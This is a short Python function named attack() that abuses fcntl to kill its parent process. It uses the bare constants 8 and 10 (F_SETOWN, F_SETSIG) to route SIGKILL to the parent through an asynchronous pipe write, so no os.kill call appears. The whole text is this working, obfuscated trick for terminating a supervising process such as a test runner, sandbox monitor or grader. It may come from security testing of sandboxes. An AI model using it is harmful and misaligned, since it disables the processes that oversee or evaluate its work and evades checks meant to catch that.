def attack():
    import fcntl, os

    r, w = os.pipe()
    fcntl.fcntl(r, 8, os.getppid())
    fcntl.fcntl(r, 10, 9)
    fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(w, b"x")
    return True
